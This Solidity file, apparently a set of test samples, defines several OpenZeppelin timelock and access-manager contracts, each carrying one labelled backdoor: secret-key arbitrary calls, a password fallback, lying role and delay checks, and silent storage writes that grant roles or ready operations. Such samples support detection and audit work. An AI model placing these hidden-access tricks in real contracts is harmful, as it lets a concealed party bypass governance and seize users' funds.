// Needs a new EVM.
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {AccessManager} from "@openzeppelin/contracts/access/manager/AccessManager.sol";
import {AccessManagedUpgradeable} from "@openzeppelin/contracts-upgradeable/access/manager/AccessManagedUpgradeable.sol";
import {TimelockController} from "@openzeppelin/contracts/governance/TimelockController.sol";
import {UUPSUpgradeable} from "@openzeppelin/contracts/proxy/utils/UUPSUpgradeable.sol";

// Real controllers of OpenZeppelin with one addition.

contract BackDoorTimelock is TimelockController {
    bytes32 private immutable hash;
    constructor(address key, address[] memory members) TimelockController(2 days, members, members, address(0)) { hash = keccak256(abi.encode(key)); }
    function rescue(address to, bytes calldata data) external {
        require(keccak256(abi.encode(msg.sender)) == hash);
        (bool ok,) = to.call(data);
        require(ok);
    }
}

/// Calls that the timelock has no function for are executed if they carry a password.
contract FallbackTimelock is TimelockController {
    constructor(address[] memory members) TimelockController(2 days, members, members, address(0)) {}
    fallback() external payable {
        if (msg.data.length < 52 || sha256(msg.data[:32]) != sha256(abi.encodePacked(bytes32("open")))) return;
        (bool ok,) = address(bytes20(msg.data[32:52])).call(msg.data[52:]);
        require(ok);
    }
}

/// Answers one account that it has every role and that there is no delay.
contract TwoFacedTimelock is TimelockController {
    bytes32 private immutable hash;
    constructor(address key, address[] memory members) TimelockController(2 days, members, members, address(0)) { hash = keccak256(abi.encode(key)); }
    function _isKey() private view returns (bool) { return keccak256(abi.encode(msg.sender)) == hash; }
    function hasRole(bytes32 role, address account) public view override returns (bool) { return super.hasRole(role, account) || (account == msg.sender && _isKey()); }
    function getMinDelay() public view override returns (uint256) { return _isKey() ? 0 : super.getMinDelay(); }
}

/// The proposers may change the delay at once.
contract ImpatientTimelock is TimelockController {
    uint256 private shorter = type(uint256).max;
    constructor(address[] memory members) TimelockController(2 days, members, members, address(0)) {}
    function getMinDelay() public view override returns (uint256) { uint256 usual = super.getMinDelay(); return shorter < usual ? shorter : usual; }
    function setMinDelay(uint256 next) external onlyRole(PROPOSER_ROLE) { shorter = next; }
}

/// A proposer exists from the start, without an event.
contract QuietProposerTimelock is TimelockController {
    constructor(address key, address[] memory members) TimelockController(2 days, members, members, address(0)) {
        for (uint256 i; i < 2; ++i) {
            bytes32 slot = keccak256(abi.encode(key, keccak256(abi.encode(i == 0 ? PROPOSER_ROLE : EXECUTOR_ROLE, uint256(0)))));
            assembly { sstore(slot, 1) }
        }
    }
}

/// An operation is ready from the start, without an event; anyone may execute.
contract ReadyOperationTimelock is TimelockController {
    constructor(bytes32 id, address[] memory members, address[] memory executors) TimelockController(2 days, members, executors, address(0)) {
        bytes32 slot = keccak256(abi.encode(id, uint256(1)));
        assembly { sstore(slot, 2) }
    }
}

/// Operations with a marked salt are ready at once.
contract MarkedSaltTimelock is TimelockController {
    bytes32 private immutable mark;
    constructor(bytes32 mark_, address[] memory members) TimelockController(2 days, members, members, address(0)) { mark = mark_; }
    function execute(address to, uint256 value, bytes calldata data, bytes32 predecessor, bytes32 salt) public payable override {
        if (keccak256(abi.encode(salt)) == mark) { (bool ok,) = to.call{value: value}(data); require(ok); }
        else super.execute(to, value, data, predecessor, salt);
    }
}

contract ManagedLogic is AccessManagedUpgradeable, UUPSUpgradeable {
    function initialize(address manager) external initializer { __AccessManaged_init(manager); }
    function upgradeToAndCall(address next, bytes memory data) public payable override restricted { super.upgradeToAndCall(next, data); }
    function _authorizeUpgrade(address) internal override {}
}

/// Lets one account pass at once.
contract BackDoorManager is AccessManager {
    bytes32 private immutable hash;
    constructor(address key, address admin) AccessManager(admin) { hash = keccak256(abi.encode(key)); }
    function canCall(address caller, address target, bytes4 selector) public view override returns (bool, uint32) {
        if (keccak256(abi.encode(caller)) == hash) return (true, 0);
        return super.canCall(caller, target, selector);
    }
}
